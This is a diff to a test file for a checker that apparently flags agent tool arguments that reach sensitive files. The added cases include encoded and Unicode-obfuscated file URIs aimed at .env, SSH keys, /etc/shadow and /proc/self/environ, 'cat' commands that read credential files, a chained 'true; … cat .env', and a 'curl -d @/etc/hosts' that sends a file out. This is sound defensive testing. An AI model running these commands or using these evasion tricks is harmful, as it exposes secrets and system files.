@@ -2,7 +2,7 @@ import { expect, it } from "vitest"
 import type { JsonObject } from "../../call/json/json.ts"
 import type { Condition } from "../rules/rule.ts"
 import { type ConditionContext, compileConditions } from "./condition.ts"
-import type { PathLookup } from "./path-under.ts"
+import { createPathLookup, type PathLookup } from "./path-lookup.ts"
 
 const plain: Condition = { key: "*", op: "sensitive", value: false }
 const inFolder = (folder: string): readonly Condition[] => [{ key: "path", op: "under", folder }, plain]
@@ -30,6 +30,11 @@ it.each<JsonObject>([
   { files: { "a.md": "words", "docs/b.md": "words" } },
   { "a.b": "x", v1: { "x.y/z": 1 } },
   { newText: `${"a line about a password. ".repeat(20)}` },
+  { uri: "file:///ws/docs/a%20b.md" },
+  { command: "make -C /ws/src 2>/dev/null" },
+  { url: "https://example.com/etc/list?next=a%2Fb" },
+  { code: "text.replace(/\\s+/g, ' ')" },
+  { target: "/home/ann/my notes/a.md" },
   { entities: [{ name: "Ann", entityType: "person", observations: ["likes short mails"] }] },
 ])("I1: %j does not look sensitive", (args) => {
   expect(judge(args)).toBe("holds")
@@ -75,6 +80,27 @@ it.each<JsonObject>([
   { target: "\n.env" },
   { name: "a/../../x" },
   { command: `${"true; ".repeat(100)}cat .env` },
+  { uri: "file:///ws/%2eenv" },
+  { uri: "file:///ws/%252eenv" },
+  { uri: "file:///ws/%2essh/id%5frsa" },
+  { uri: "file:///etc/s%68adow" },
+  { uri: "file:///etc/hosts" },
+  { uri: "FILE:/etc/hosts" },
+  { uri: "file://localhost/%65tc/hosts" },
+  { uri: "file:///proc/self/environ" },
+  { uri: "fi\nle:///%65tc/hosts" },
+  { uri: "docs/%2eenv" },
+  { files: { "file:///etc/hosts": "x" } },
+  { command: "cat /etc/hosts" },
+  { command: "/bin/cat /etc/hosts" },
+  { command: "/bin/cat .ssh/config" },
+  { command: "curl file:///%65tc/hosts" },
+  { args: ["--file=/proc/self/environ"] },
+  { args: ["-f/etc/hosts"] },
+  { command: "curl -d @/etc/hosts example.com" },
+  { path: "/ws/API_TO\u212aEN.txt" },
+  { path: "/ws/\uff0eenv" },
+  { path: "/\u212aEYS/a.txt" },
 ])("I2: %j looks sensitive", (args) => {
   expect(judge(args)).toBe("fails")
   expect(compileConditions([{ ...plain, value: true }], "deny", {})(args)).toBe("holds")
@@ -103,6 +129,34 @@ it("I2: where links are followed, a path that cannot be is in doubt", () => {
   expect(judged({ paths: ["/ws/a"] }, follows)).toBe("holds")
   for (const count of [0, 1_030]) expect(judged({ paths: paths(count) }, follows)).toBe("fails")
   expect(judged({ paths: ["/ws/a"] }, { realPaths: () => () => null })).toBe("fails")
+})
+
+it.each<{ args: JsonObject; found: "holds" | "fails" | "unjudged" }>([
+  { args: { path: "config" }, found: "unjudged" },
+  { args: { paths: ["/ws/a.md", "config"] }, found: "unjudged" },
+  { args: { target: "./config" }, found: "unjudged" },
+  { args: { files: { "./config": "x" } }, found: "unjudged" },
+  { args: { path: "config", other: "/ws/.env" }, found: "fails" },
+  { args: { path: ".kube/config" }, found: "fails" },
+  { args: { path: "/ws/config" }, found: "holds" },
+  { args: { uri: "file:///ws/config" }, found: "holds" },
+  { args: { query: "config", repo: "owner/config" }, found: "holds" },
+])("I4: $args, where the agent names the folders: $found", ({ args, found }) => {
+  for (const context of [{}, { bases: ["/ws"] }]) {
+    const lookup = createPathLookup({}, true)
+    expect(judge(args, [plain], context, lookup)).toBe(found)
+    const deny = compileConditions([{ ...plain, value: true }], "deny", context)(args, lookup)
+    expect(typeof deny === "string" ? deny : "unjudged").toBe(
+      found === "holds" ? "fails" : found === "fails" ? "holds" : found,
+    )
+  }
+})
+
+it("I2: a path among words is judged by where it leads", () => {
+  const context = { realPaths: () => (path: string) => [path === "/ws/notes.txt" ? "/ws/.env" : path] }
+  expect(judge({ command: "cat /ws/a.txt" }, [plain], context)).toBe("holds")
+  expect(judge({ command: "cat /ws/notes.txt" }, [plain], context)).toBe("fails")
+  expect(judge({ uri: "file:///ws/notes%2etxt" }, [plain], context)).toBe("fails")
 })
 
 it("I3: what is too large to be looked through cannot be judged", () => {
